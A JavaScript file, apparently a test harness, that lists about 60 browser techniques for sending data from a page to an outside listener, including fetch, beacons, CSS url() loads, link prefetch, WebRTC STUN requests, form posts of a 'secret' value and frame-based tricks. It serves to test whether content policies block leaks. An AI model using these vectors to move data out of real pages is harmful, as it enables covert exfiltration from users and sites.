// Every way that we know by which a script in a page could send something out. One expression: a
// function of (name, target) that tries one of them. `target` holds addresses of the listener:
// see attempts.py; `url` ends in "/". With no name: the names of all vectors.
(name, target) => {
  const add = (tag, attributes, parent = document.head) => {
    const element = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    parent.append(element);
    return element;
  };
  const link = (rel, more = {}) => add("link", { rel, href: target.url, ...more });
  const probe = () => {
    const element = add("p", {}, document.body);
    element.textContent = "x";
    return element;
  };
  const sheet = (rule) => {
    const made = new CSSStyleSheet();
    made.replaceSync(rule);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
  };
  const click = (attributes) => add("a", attributes, document.body).click();
  const post = (attributes) => {
    const form = add("form", { method: "post", action: target.url, ...attributes }, document.body);
    add("input", { name: "words", value: "secret" }, form);
    form.submit();
  };
  const blankFrame = () => add("iframe", {}, document.body).contentWindow;
  const peer = (scope) => {
    const connection = new scope.RTCPeerConnection({ iceServers: [{ urls: target.stun }] });
    globalThis.keptConnection = connection; // a collected one is closed
    connection.createDataChannel("words");
    return connection.setLocalDescription();
  };
  const challenge = new Uint8Array(16);

  const vectors = {
    // The 38.
    "fetch": () => fetch(target.url),
    "XMLHttpRequest": () => {
      const request = new XMLHttpRequest();
      request.open("GET", target.url);
      request.send();
    },
    "sendBeacon": () => navigator.sendBeacon(target.url, "words"),
    "fetch keepalive no-cors POST": () =>
      fetch(target.url, { method: "POST", mode: "no-cors", keepalive: true, body: "words" }),
    "WebSocket": () => new WebSocket(target.ws),
    "EventSource": () => new EventSource(target.url),
    "image": () => add("img", { src: target.url }, document.body),
    "CSS url() by style property": () => {
      probe().style.backgroundImage = `url(${target.url})`;
    },
    "CSSStyleSheet.insertRule": () => {
      const style = add("style", {});
      const owner = style.sheet ?? document.styleSheets[0];
      owner.insertRule(`p { background-image: url(${target.url}) }`, owner.cssRules.length);
      probe();
    },
    "@import in a style element": () => {
      add("style", {}).textContent = `@import url(${target.url});`;
    },
    "adopted stylesheet": () => {
      sheet(`p { background-image: url(${target.url}) }`);
      probe();
    },
    "FontFace": () => new FontFace("leak", `url(${target.url})`).load(),
    "link prefetch": () => link("prefetch"),
    "link preload": () => link("preload", { as: "image" }),
    "link modulepreload": () => link("modulepreload"),
    "link icon": () => link("icon"),
    "link manifest": () => {
      document.querySelector("link[rel=manifest]")?.remove();
      link("manifest");
    },
    "link preconnect": () => link("preconnect"),
    "link dns-prefetch": () => link("dns-prefetch", { href: `http://${target.name}/` }),
    "speculation rules": () => {
      const script = document.createElement("script");
      script.type = "speculationrules";
      const rule = { urls: [target.local], eagerness: "immediate" };
      script.textContent = JSON.stringify({ prefetch: [rule] });
      document.head.append(script);
    },
    "iframe": () => add("iframe", { src: target.url }, document.body),
    "object": () => add("object", { data: target.url }, document.body),
    "video": () => add("video", { src: target.url, preload: "auto" }, document.body),
    "script element": () => add("script", { src: target.url }),
    "dynamic import": () => import(target.url),
    // A worker's own script must be of the same origin; what it imports need not.
    "Worker by URL": () => {
      const code = `importScripts(${JSON.stringify(target.url)})`;
      new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      return new Worker(target.url);
    },
    "a[ping]": () => click({ href: "#", ping: target.url }),
    "a[download] cross-origin": () => click({ href: target.url, download: "words" }),
    "form post": () => post({}),
    "form post to _blank": () => post({ target: "_blank" }),
    "WebTransport": () => new WebTransport(target.https).ready,
    "window.open": () => open(target.url),
    "window.open noopener": () => open(target.url, "_blank", "noopener"),
    "meta refresh": () => add("meta", { "http-equiv": "refresh", content: `0;url=${target.url}` }),
    "link click": () => click({ href: target.url }),
    "top.location": () => {
      top.location = target.url;
    },
    "location": () => {
      location.href = target.url;
    },
    "RTCPeerConnection with a STUN server": () => peer(globalThis),

    // More that came up since.
    "link click to _blank": () => click({ href: target.url, target: "_blank", rel: "noopener" }),
    "link click outside the document": () =>
      Object.assign(document.createElement("a"), { href: target.url, target: "_blank" }).click(),
    "form GET": () => post({ method: "get" }),
    "location in a blank frame": () => {
      blankFrame().location = target.url;
    },
    "RTCPeerConnection in a blank frame": () => peer(blankFrame()),
    "RTCPeerConnection in a frame of a shadow tree": () => {
      const shadow = add("div", {}, document.body).attachShadow({ mode: "closed" });
      return peer(add("iframe", {}, shadow).contentWindow);
    },
    "RTCPeerConnection in a cloned frame": () => {
      const parsed = new DOMParser().parseFromString(
        '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>',
        "text/xml",
      );
      const frame = document.importNode(parsed.documentElement, true);
      document.body.append(frame);
      return peer(frame.contentWindow);
    },
    "window.open of a blank frame": () => blankFrame().open(target.url),
    "window of a page without a policy": () => {
      const other = open(new URL("/release.json", location.href));
      other.addEventListener("load", () => other.fetch(target.url));
    },
    "service worker cache": async () => (await caches.open("leak")).add(target.url),
    "fetchLater": () => fetchLater(target.local, { activateAfter: 0 }),
    "WebSocketStream": () => new WebSocketStream(target.ws),
    "image input": () => add("input", { type: "image", src: target.url }, document.body),
    "SVG image": () => {
      const space = "http://www.w3.org/2000/svg";
      const svg = document.createElementNS(space, "svg");
      const image = document.createElementNS(space, "image");
      image.setAttribute("href", target.url);
      svg.append(image);
      document.body.append(svg);
    },
    "text track": () => {
      const video = add("video", { crossorigin: "" }, document.body);
      const track = add("track", { src: target.url, default: "" }, video);
      track.track.mode = "showing";
    },
    "link stylesheet": () => link("stylesheet"),
    "payment method": () =>
      new PaymentRequest([{ supportedMethods: target.https }], {
        total: { label: "x", amount: { currency: "EUR", value: "1" } },
      }).canMakePayment(),
    "federated sign-in": () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: target.https, clientId: "x" }] },
      }),
    "passkey of another site": () =>
      navigator.credentials.get({ publicKey: { challenge, rpId: target.host, timeout: 2000 } }),
    "passkey signal for another site": () =>
      PublicKeyCredential.signalUnknownCredential({ rpId: target.host, credentialId: "AAAA" }),
  };
  if (!name) return Object.keys(vectors);
  // What a vector answers does not matter, nor that it fails: only what arrives elsewhere.
  try {
    Promise.resolve(vectors[name]()).catch(() => {});
  } catch {
    return;
  }
};
